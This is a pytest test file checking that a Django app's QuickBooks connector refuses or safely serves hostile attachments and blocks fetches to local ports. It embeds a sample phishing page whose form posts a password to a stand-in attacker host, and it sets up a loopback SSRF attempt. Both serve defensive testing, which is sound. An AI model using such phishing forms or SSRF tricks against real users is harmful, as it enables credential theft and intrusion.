"""A QuickBooks attachment is stored and served as what Well's validation found, never as the
type the provider sent (issue 19, finding 1): the sandbox over HTTP serves the files."""

from __future__ import annotations

import base64

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse

from connectors.quickbooks.models import SourceFile, SourceRecord
from connectors.quickbooks.sync import quickbooks_sync
from well.models import AuditEvent

pytestmark = pytest.mark.django_db

PHISHING = (
    b"<!doctype html><html><body><p>Your session expired, sign in again.</p>"
    b'<form id="f" method="post" action="https://attacker.example/steal">'
    b'<input name="pw" value="hunter2"><button>Sign in</button></form></body></html>'
)


def sync(connection):
    return quickbooks_sync(connection_id=connection.pk, sleep=lambda s: None)


def _file_url(source: SourceFile) -> str:
    return reverse(
        "review:file",
        kwargs={
            "workspace_slug": source.workspace.slug,
            "record_id": source.record_id,
            "file_id": source.pk,
        },
    )


def test_an_html_attachment_sent_as_text_html_is_refused_at_sync_and_never_served(
    connected, qbo, client
):
    sync(connected)
    stored = SourceFile.objects.filter(workspace=connected.workspace).exclude(sha256="")
    assert stored.exists()
    # Every stored file carries the type validation found, not the sandbox's header.
    assert set(stored.values_list("content_type", flat=True)) <= {"application/pdf"}
    victim = stored.select_related("attachable").first()
    qbo.control(
        "file",
        {
            "id": victim.attachable.qbo_id,
            "content_type": "text/html; charset=utf-8",
            "body_base64": base64.b64encode(PHISHING).decode(),
        },
    )
    qbo.mutate(action="edit", entity="Attachable", id=victim.attachable.qbo_id)

    sync(connected)

    victim.refresh_from_db()
    assert victim.error.startswith("Refused: The file is not a PDF, JPEG or PNG")
    assert "web page (HTML)" in victim.error
    assert victim.content_type == "" and victim.sha256 == ""
    assert AuditEvent.objects.filter(
        workspace=connected.workspace, verb="record.file_refused", object_id=victim.record_id
    ).exists()
    assert client.get(_file_url(victim)).status_code == 404
    page = client.get(
        reverse(
            "review:record",
            kwargs={"workspace_slug": connected.workspace.slug, "record_id": victim.record_id},
        )
    ).content.decode()
    assert "web page (HTML)" in page  # the reason is shown on the record
    assert "<iframe" not in page


@pytest.fixture
def legacy_html(connected, qbo, settings):
    """A file stored before validation existed: HTML bytes under the provider's type."""
    sync(connected)
    record = SourceRecord.objects.filter(workspace=connected.workspace, entity_type="Bill").first()
    attachable = SourceRecord.objects.filter(
        workspace=connected.workspace, entity_type="Attachable"
    ).first()
    SourceFile.objects.filter(record=record).delete()
    source = SourceFile(
        workspace=connected.workspace,
        record=record,
        attachable=attachable,
        file_name="invoice.pdf",
        content_type="text/html",
        size=len(PHISHING),
        sha256="f" * 64,
    )
    source.file.save("legacy.html", ContentFile(PHISHING), save=True)
    return source


def test_a_file_stored_before_validation_is_only_ever_a_download_of_opaque_bytes(
    legacy_html, client
):
    response = client.get(_file_url(legacy_html))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].split(";")[0] == "sandbox"
    # Asked for by a frame (a row stored as a PDF before validation is still framed), it is
    # not served at all: a frame shows validated PDFs only.
    assert client.get(_file_url(legacy_html), HTTP_SEC_FETCH_DEST="iframe").status_code == 404
    page = client.get(
        reverse(
            "review:record",
            kwargs={
                "workspace_slug": legacy_html.workspace.slug,
                "record_id": legacy_html.record_id,
            },
        )
    ).content.decode()
    assert "<iframe" not in page  # only a validated PDF is framed


def test_a_validated_pdf_is_shown_inline_as_a_pdf_under_a_sandboxing_policy(connected, client):
    sync(connected)
    source = SourceFile.objects.filter(workspace=connected.workspace).exclude(sha256="").first()

    response = client.get(_file_url(source))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("inline;")
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = response["Content-Security-Policy"]
    assert policy.split(";")[0] == "sandbox" and "form-action 'none'" in policy
    assert response.content.startswith(b"%PDF-")


def test_a_pdf_with_javascript_from_quickbooks_is_refused_with_the_reason(connected, qbo):
    from tests.connectors.test_pdf_active_content import OPEN_ACTION_JS

    sync(connected)
    victim = (
        SourceFile.objects.filter(workspace=connected.workspace)
        .exclude(sha256="")
        .select_related("attachable")
        .first()
    )
    qbo.control(
        "file",
        {
            "id": victim.attachable.qbo_id,
            "content_type": "application/pdf",
            "body_base64": base64.b64encode(OPEN_ACTION_JS).decode(),
        },
    )
    qbo.mutate(action="edit", entity="Attachable", id=victim.attachable.qbo_id)

    sync(connected)

    victim.refresh_from_db()
    assert victim.error.startswith("Refused: The PDF contains JavaScript")
    assert not victim.file


def test_where_loopback_is_allowed_a_link_to_another_local_port_is_never_fetched(connected, qbo):
    # Issue 19: in the demo a hostile provider made Well fetch another local service.
    import http.server
    import threading

    from connectors.quickbooks import attachments
    from connectors.quickbooks import sync as sync_module

    hits: list[str] = []

    class Local(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"%PDF-1.4 internal state")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Local)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        api = sync_module.api_for(connected)
        url = f"http://127.0.0.1:{server.server_address[1]}/_sandbox/state"
        outcome = attachments._download(
            api, SourceRecord(qbo_id="1", payload={"TempDownloadUri": url})
        )
    finally:
        server.shutdown()

    assert outcome[0] == "error" and "unusual port" in outcome[1]
    assert hits == []
